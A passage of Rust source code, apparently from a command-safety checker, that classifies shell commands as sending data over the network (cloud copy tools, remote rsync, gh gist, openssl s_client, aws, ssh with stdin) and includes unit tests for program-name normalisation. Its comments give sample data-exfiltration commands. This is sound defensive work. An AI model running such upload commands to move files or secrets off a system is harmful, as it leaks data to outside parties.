    "gsutil", "s3cmd", "azcopy",
];

/// Whether the program (its normalised name and its words after the name) sends data over
/// the network: a downloader, one of [`SENDERS`], `rsync` with a remote operand
/// (`host:dst`, `rsync://`), `gh gist` / `gh api` / `gh release`, `openssl s_client`,
/// `aws`, or `ssh` fed standard input (`stdin_fed`).
pub fn sends_over_network(name: &str, words: &[&str], stdin_fed: bool) -> bool {
    if role(name) == Some(Role::Downloader) || SENDERS.contains(&name) {
        return true;
    }
    let operands = || words.iter().filter(|w| !w.starts_with('-'));
    match name {
        "rsync" => operands().any(|w| w.contains(':')),
        "gh" => operands()
            .next()
            .is_some_and(|sub| matches!(*sub, "gist" | "api" | "release")),
        "ssh" => stdin_fed,
        // `openssl s_client -connect host:port < FILE` sends its input to the server.
        "openssl" => operands().next().is_some_and(|sub| *sub == "s_client"),
        // `aws s3 cp FILE s3://...`, `aws s3api put-object --body FILE`: any aws call may
        // carry a file to the cloud.
        "aws" => true,
        _ => false,
    }
}

/// Options of the ssh family whose value is the identity file the program reads to log in,
/// not data it sends (`ssh -i ~/.ssh/id_ed25519 host`).
pub fn identity_option(name: &str, word: &str) -> bool {
    matches!(name, "ssh" | "scp" | "sftp")
        && (word == "-i" || (word.starts_with("-i") && !word.starts_with("--")))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_are_normalised() {
        assert_eq!(normalise("/usr/bin/python3.12"), "python3");
        assert_eq!(normalise("python3.12"), "python3");
        assert_eq!(normalise("Python.EXE"), "python");
        assert_eq!(normalise("node.exe"), "node");
        assert_eq!(normalise("gcc-12"), "gcc");
        assert_eq!(normalise("./x/unknown-tool"), "unknown-tool");
        assert!(is_shell("/bin/rbash"));
        assert!(is_wrapper("flock"));
        assert!(is_interpreter("gawk"));
    }

    #[test]
    fn every_name_is_listed_once() {
        let mut all: Vec<&str> = TABLE.iter().flat_map(|p| p.names.iter().copied()).collect();
        let n = all.len();
        all.sort();
        all.dedup();
        assert_eq!(all.len(), n, "a program is listed twice");
    }

    #[test]
    fn long_option_abbreviations() {
        assert!(long_matches("--recurs", "--recursive"));
        assert!(long_matches("--har", "--hard"));
        assert!(long_matches("--target=x", "--target-directory"));
        assert!(!long_matches("--", "--hard"));
        assert!(!long_matches("--soft", "--hard"));
    }
}
